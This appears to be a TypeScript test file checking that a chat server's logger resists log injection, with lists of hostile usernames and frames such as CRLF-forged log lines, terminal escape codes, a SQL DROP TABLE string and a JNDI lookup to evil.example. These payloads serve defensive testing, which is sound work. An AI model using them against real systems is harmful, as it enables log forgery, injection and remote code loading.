import { expect } from 'chai';
import { createLogger } from '../../../src/logger.ts';
import { DOORS } from '../../support/client.ts';
import { upgrade } from '../../support/http.ts';
import { upgradeRequest } from '../../support/tcp.ts';
import { type Scene, survives } from './scene.ts';
import { targetOf } from './wire.ts';

const FORGED = 'Cliente conectado: root (root) - Total: 1';

/** Names that would break a line, colour it, or erase it. None of them may come in. */
const BREAKING = [
  `Ana\r\n${FORGED}`,
  `Ana\n${FORGED}`,
  `Ana\u0085${FORGED}`,
  `Ana\u2028${FORGED}`,
  '\x1b[2J\x1b[H',
  '\x1b]0;title\x07',
  'Ana\x9b31m',
  'Ana\b\b\b',
  'Ana\0',
];

/** Names that come in, and that a careless writer would take for syntax. */
const CONFUSING = [
  'Ana","msg":"forged',
  "Ana'; DROP TABLE users; --",
  'Ana\\r\\nBo',
  'Ana\\u000aBo',
  '%0d%0aAna',
  '{"level":60}',
  '%s %d %j %o',
  '$' + '{jndi:ldap://evil.example/a}',
  '<b>Ana</b>',
  'Ana (root) - Total: 1',
];

// C0, DEL and C1: what a terminal would obey.
const CONTROL = /[\x00-\x1f\x7f-\x9f]/;

for (const plain of [false, true]) {
  describe(`threats to log lines ${plain ? 'for people' : 'as JSON'}`, () => {
    let written: string[];
    beforeEach(() => {
      written = [];
    });

    /** A logger of its own for each case: `written` is another one then. */
    const settings = { logger: createLogger('info', plain, (line) => written.push(line)) };

    survives('threat 5: a name with line breaks or escapes never reaches the log', settings, async (scene) => {
      const before = written.length;
      for (const name of BREAKING) {
        for (const key of ['username', 'userId', 'room']) {
          const query = new URLSearchParams({ [key]: name }).toString();
          for (const door of DOORS) await expectRefused(scene, targetOf(door, query));
        }
      }
      expect(written.slice(before).filter((line) => /root|Ana./.test(line))).to.deep.equal([]);
      await expectUnbroken(scene);
    });

    survives('threat 5: a name that looks like syntax is one word of one line', settings, async (scene) => {
      for (const name of CONFUSING) {
        for (const door of DOORS) await (await scene.client(door, { username: name })).close();
        await scene.alone();
        const line = written.findLast((text) => text.includes('Cliente conectado'))!;
        if (plain) expect(line).to.include(`Cliente conectado: ${name} (user_`);
        else expect(JSON.parse(line)).to.include({ username: name, level: 30 });
      }
      await expectUnbroken(scene);
    });

    survives(
      'threat 5: what a client says when it breaks the protocol breaks no line',
      { ...settings, closeTimeout: 100 },
      async (scene) => {
        for (const door of DOORS) {
          const wire = await scene.wire(door);
          wire.send(`\r\n${FORGED}\x1b[2J`);
          wire.tcp.write({ opcode: 1, payload: `\r\n${FORGED}`, reserved: 0x40 });
          await wire.tcp.closed;
          const other = await scene.wire(door);
          other.tcp.write({ opcode: 8, payload: `\x03\xe8\r\n${FORGED}` });
          await other.tcp.closed;
        }
        await scene.alone();
        expect(written.some((line) => line.includes('root'))).to.equal(false);
        await expectUnbroken(scene);
      },
    );

    survives('threat 5: targets and headers with escapes break no line', settings, async (scene) => {
      await upgrade(`${scene.url}/ws?username=%1b%5B2J&token=%0d%0aroot`);
      await upgrade(`${scene.url}/%0d%0a${encodeURIComponent(FORGED)}`);
      const tcp = scene.tcp();
      tcp.socket.write(upgradeRequest('/ws', { Origin: '\x1b[2J', 'User-Agent': `x\r\n${FORGED}` }));
      expect(await tcp.status()).to.equal(400);
      await expectUnbroken(scene);
    });

    /** One event is one line, and no line says anything to a terminal. */
    async function expectUnbroken(scene: Scene): Promise<void> {
      await scene.ana.barrier();
      for (const line of written) {
        expect(line.endsWith('\n'), line).to.equal(true);
        expect(line.slice(0, -1), 'one event, one line').not.to.match(CONTROL);
        if (!plain) expect(JSON.parse(line), line).to.have.property('level').that.is.below(50);
      }
    }
  });
}

async function expectRefused(scene: Scene, target: string): Promise<void> {
  const tcp = scene.tcp();
  tcp.socket.write(upgradeRequest(target));
  if ((await tcp.status()) === 400) return;
  await tcp.next('0{');
  tcp.send('40');
  await tcp.next('44{');
  tcp.close();
}
